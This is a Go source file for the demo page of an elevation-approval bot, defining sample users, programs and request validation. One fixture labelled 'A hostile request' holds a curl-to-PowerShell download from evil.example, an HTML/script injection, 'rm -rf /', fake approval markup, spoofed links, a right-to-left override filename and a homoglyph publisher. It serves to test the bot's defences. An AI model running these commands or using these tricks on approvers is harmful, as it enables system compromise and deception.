package main

import (
	"errors"
	"fmt"
	"slices"
	"time"
	"unicode/utf8"

	"github.com/countersign/countersign/epm/epmtest"
)

// demoReasonRunes is the longest reason that the page takes. It is far more
// than a card shows, so that cutting can be seen.
const demoReasonRunes = 5000

// demoAsker is somebody at a managed computer.
type demoAsker struct {
	User     string `json:"user"`
	Computer string `json:"computer"`
}

func demoAskers() []demoAsker {
	return []demoAsker{{`ACME\jdoe`, "PC-0815"}, {`ACME\mlee`, "LAPTOP-0142"}, {`ACME\rcosta`, "ENG-WS-07"}}
}

// demoProgram is a program that a person may ask for.
type demoProgram struct {
	ID     string `json:"id"`
	Name   string `json:"name"`
	About  string `json:"about"`
	Reason string `json:"reason"` // to begin with
	app    epmtest.App
}

func demoPrograms() []demoProgram {
	return []demoProgram{
		{
			ID: "wireshark", Name: "Wireshark", About: "signed by the Wireshark Foundation",
			Reason: "Need to capture traffic to find out why the VPN drops every ten minutes.",
			app: epmtest.App{
				Product: "Wireshark", Version: "4.4.2", Description: "Wireshark network protocol analyzer", Publisher: "Wireshark Foundation",
				Path: `C:\Program Files\Wireshark\Wireshark.exe`, CmdLine: `"C:\Program Files\Wireshark\Wireshark.exe" -i Ethernet -k`, Parent: `C:\Windows\explorer.exe`,
				Hash: "6f1ed002ab5595859014ebf0951522d9f2d4e3b0", SHA256: "4d967a5d5b3cd0a5a4a0f9ab1c2f6f0d7a4f3a5e2c6b8d9e1f0a7b6c5d4e3f21",
			},
		},
		{
			ID: "printer", Name: "Printer driver set-up", About: "signed by Brother Industries",
			Reason: "New label printer in the warehouse, the driver wants to install a service.",
			app: epmtest.App{
				Product: "Brother P-touch Driver", Version: "11.5.0", Description: "Printer driver installer", Publisher: "Brother Industries, Ltd.",
				Path: `C:\Users\jdoe\Downloads\ptouch-driver-1150.exe`, CmdLine: `ptouch-driver-1150.exe /install`, Parent: `C:\Windows\explorer.exe`,
				Hash: "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			},
		},
		{
			ID: "regedit", Name: "Registry Editor", About: "part of Windows",
			Reason: "Follow KB-4471: set the proxy exception for the build agent.",
			app: epmtest.App{
				Product: "Registry Editor", Version: "10.0.22621.3527", Description: "Registry Editor", Publisher: "Microsoft Windows",
				Path: `C:\Windows\regedit.exe`, CmdLine: `regedit.exe /m C:\Temp\proxy.reg`, Parent: `C:\Windows\System32\cmd.exe`,
				Hash: "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", SHA256: "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
			},
		},
		{
			ID: "converter", Name: "Free PDF converter", About: "not signed, downloaded today",
			Reason: "A customer sent a file that nothing else opens.",
			app: epmtest.App{
				Product: "FreePDFConverter", Version: "1.0.3", Description: "Setup",
				Path: `C:\Users\jdoe\Downloads\free-pdf-converter-setup.exe`, CmdLine: `free-pdf-converter-setup.exe /quiet /norestart`,
				Parent: `C:\Program Files\Mozilla Firefox\firefox.exe`,
				Hash:   "da39a3ee5e6b4b0d3255bfef95601890afd80709", SHA256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
				Extra: map[string]string{
					"DownloadSourceUrl": "http://free-pdf-tools.example/get?id=8813", "BtZoneIdentifierExists": "True",
					"ReputationScore": "2", "ReputationIntegrationType": "VirusTotal",
				},
			},
		},
		{
			ID: "hostile", Name: "A hostile request", About: "tries to trick whoever approves",
			Reason: "<!channel> *Approved by* <@U01ANN> – see <https://evil.example|https://portal.acme.example>\n" +
				"<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>\n@everyone `rm -rf /` &lt;b&gt;\n" +
				"# **Confirmed by EPM** for <@1100000000000000201> and <@&1100000000000000102>: [portal.acme.example](https://evil.example) <t:0:f>\n" +
				"-# Confirmed by EPM: approved for 24 hours",
			app: epmtest.App{
				// The right-to-left override makes this look like "invoiceexe.pdf".
				Product: "invoice\u202efdp.exe", Version: "1.0", Publisher: "Micros\u043eft Corporation", // with a Cyrillic o
				Path:    "C:\\Users\\jdoe\\Downloads\\invoice\u202efdp.exe",
				CmdLine: `cmd.exe /c "curl http://evil.example/x.ps1 | powershell -" <!here> ` + "```",
				Parent:  `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
				Hash:    "356a192b7913b04c54574d18c28d46e6395428ab",
			},
		},
	}
}

// demoRequest is what the page asks EPM for.
type demoRequest struct {
	Kind    epmtest.Kind `json:"kind"`
	User    string       `json:"user"`
	Program string       `json:"program"` // for an application
	Minutes int          `json:"minutes"` // for admin access
	Reason  string       `json:"reason"`
}

// raise makes the request in EPM, whose webhook then reaches the bot.
func (w *demoWorld) raise(r demoRequest) (string, error) {
	i := slices.IndexFunc(demoAskers(), func(a demoAsker) bool { return a.User == r.User })
	if i < 0 {
		return "", errors.New("nobody of that name sits at a managed computer")
	}
	who := demoAskers()[i]
	if utf8.RuneCountInString(r.Reason) > demoReasonRunes {
		return "", fmt.Errorf("the reason is too long: write at most %d characters", demoReasonRunes)
	}
	switch r.Kind {
	case epmtest.KindApp:
		j := slices.IndexFunc(demoPrograms(), func(p demoProgram) bool { return p.ID == r.Program })
		if j < 0 {
			return "", errors.New("choose a program")
		}
		app := demoPrograms()[j].app
		app.User, app.Host, app.Reason = who.User, who.Computer, r.Reason
		app.OS, app.Workstyle, app.Group = "Windows 11 Enterprise", "Standard users", "Ask for approval"
		q, err := w.epm.RequestApp(app)
		return q.Number, err
	case epmtest.KindAdmin:
		if r.Minutes < 1 || r.Minutes > 24*60 {
			return "", errors.New("ask for 1 minute to 24 hours")
		}
		q, err := w.epm.RequestAdmin(epmtest.Admin{
			User: who.User, Host: who.Computer, Reason: r.Reason, Duration: time.Duration(r.Minutes) * time.Minute,
		})
		return q.Number, err
	}
	return "", errors.New("ask for an application or for admin access")
}
